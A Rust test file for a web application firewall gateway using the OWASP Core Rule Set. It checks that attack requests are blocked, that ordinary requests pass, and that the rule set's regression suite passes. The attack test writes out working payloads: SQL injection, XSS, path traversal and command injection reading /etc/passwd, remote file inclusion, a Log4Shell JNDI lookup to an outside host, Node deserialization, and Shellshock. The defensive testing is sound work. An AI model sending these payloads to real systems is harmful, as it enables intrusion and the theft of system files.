//! The OWASP Core Rule Set as it is shipped. Its files are no part of this repository: where they are not there, these tests
//! say so and pass.

use std::path::PathBuf;

use portcullis_testkit::echo::Upstream;
use portcullis_testkit::gateway::Gateway;
use serde_json::json;

use super::{get, post, rule_ids};
use crate::common::{plain, setup};

/// The folder of the rules, if it is there.
#[expect(clippy::print_stderr, reason = "a test that did nothing says so")]
fn shared() -> Option<PathBuf> {
    let named = std::env::var_os("PORTCULLIS_SHARED").map(PathBuf::from);
    let folder = named
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared"))
        .join("crs");
    let is_there = folder.join("crs-setup.conf.example").is_file();
    if !is_there {
        eprintln!(
            "SKIPPED: the Core Rule Set is not at {}; PORTCULLIS_SHARED names another place",
            folder.display()
        );
    }
    is_there.then(|| folder.canonicalize().unwrap())
}

fn start(upstream: &Upstream) -> Option<Gateway> {
    let folder = shared()?;
    let config = plain(&upstream.url())
        .section(
            "rulesets",
            "[{ name: crs, paranoia: 1, files: [\"${CRS_DIR}/crs-setup.conf.example\", \"${CRS_DIR}/rules/*.conf\"] }]",
        )
        .policy("scan", "{ ruleset: crs }");
    Some(config.start_in(setup().variable("CRS_DIR", folder)))
}

#[test]
fn attacks_of_each_family_are_refused() {
    let upstream = Upstream::start();
    let Some(gateway) = start(&upstream) else { return };
    let json = "application/json";
    let agent = "User-Agent: probe\r\nAccept: */*\r\n";
    let answers = [
        ("sql", get(&gateway, "/a?id=1%27%20OR%20%271%27=%271%27%20--%20", agent)),
        ("sql in json", post(&gateway, json, r#"{"q":"1' UNION SELECT username, password FROM users-- "}"#)),
        ("xss", get(&gateway, "/a?q=%3Cscript%3Ealert(1)%3C/script%3E", agent)),
        ("xss in json", post(&gateway, json, r#"{"name":"<img src=x onerror=alert(1)>"}"#)),
        ("path traversal", get(&gateway, "/a?file=../../../../etc/passwd", agent)),
        ("remote file", get(&gateway, "/a?page=http://203.0.113.5/shell.php?", agent)),
        ("command", get(&gateway, "/a?host=127.0.0.1;cat%20/etc/passwd", agent)),
        ("php", get(&gateway, "/a?x=%3C?php%20system(%27id%27);?%3E", agent)),
        ("java", get(&gateway, "/a?x=$%7Bjndi:ldap://203.0.113.5/a%7D", agent)),
        (
            "node",
            post(&gateway, json, r#"{"x":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}"#),
        ),
        ("shellshock", get(&gateway, "/a", "User-Agent: () { :;}; /bin/bash -c id\r\n")),
        ("scanner", get(&gateway, "/a", "User-Agent: sqlmap/1.7\r\nAccept: */*\r\n")),
        ("splitting", get(&gateway, "/a?x=a%0d%0aSet-Cookie:%20b=c", agent)),
    ];
    let passed: Vec<_> =
        answers.iter().filter(|(_, answer)| answer.status != 403).map(|(what, _)| what).collect();
    assert!(passed.is_empty(), "{passed:?}");
    upstream.assert_no_contact();
    for record in gateway.stop_and_audit() {
        assert!(rule_ids(&record).contains(&949_110), "{record}");
        assert!(record["waf.score"].as_u64().unwrap() >= 5, "{record}");
    }
}

#[test]
fn ordinary_requests_pass() {
    let upstream = Upstream::start();
    let Some(gateway) = start(&upstream) else { return };
    let agent = "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0\r\nAccept: application/json\r\n";
    for target in [
        "/",
        "/api/v1/products?page=2&sort=-price&limit=50",
        "/api/v1/search?q=caf%C3%A9+au+lait",
        "/api/v1/search?q=O%27Neil",
        "/api/v1/orders/9f1c2f4e-6a3b-4f0e-9d63-0c7a1d2b3e4f",
        "/api/v1/reports?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z",
        "/api/v1/users?filter=name,email&include=orders",
    ] {
        let answer = get(&gateway, target, agent);
        assert_eq!(answer.status, 200, "{target}");
    }
    for body in [
        json!({ "name": "Ann O'Neil", "email": "ann@example.com", "age": 41 }),
        json!({ "comment": "Please select a time; bring your card. Thanks & see you!" }),
        json!({ "lines": [{ "sku": "A-1", "quantity": 2 }, { "sku": "B-2", "quantity": 1 }], "note": null }),
        json!({ "title": "Über uns", "body": "Wir treffen uns am 3. Mai um 10:30 Uhr." }),
    ] {
        let answer = post(&gateway, "application/json", &body.to_string());
        assert_eq!(answer.status, 200, "{body}");
    }
    let form = "name=Ann+O%27Neil&city=Zürich&newsletter=on".replace('ü', "%C3%BC");
    assert_eq!(post(&gateway, "application/x-www-form-urlencoded", &form).status, 200);
}

/// The regression suite of the rules themselves, without sockets.
#[test]
fn the_regression_suite_passes() {
    let Some(folder) = shared() else { return };
    let output = std::process::Command::new(crate::common::BINARY)
        .args(["waf", "test", "--rules"])
        .arg(folder.join("rules"))
        .arg("--tests")
        .arg(folder.join("tests"))
        .output()
        .unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    let last = text.lines().last().unwrap_or_default();
    let counts: Vec<u32> = last.split(' ').filter_map(|word| word.parse().ok()).collect();
    let [passed, failed] = counts[..] else { panic!("no counts in `{last}`:\n{text}") };
    assert_eq!(last, format!("{passed} passed, {failed} failed"));
    assert!(passed > 4_500 && failed <= 3, "{last}");
}
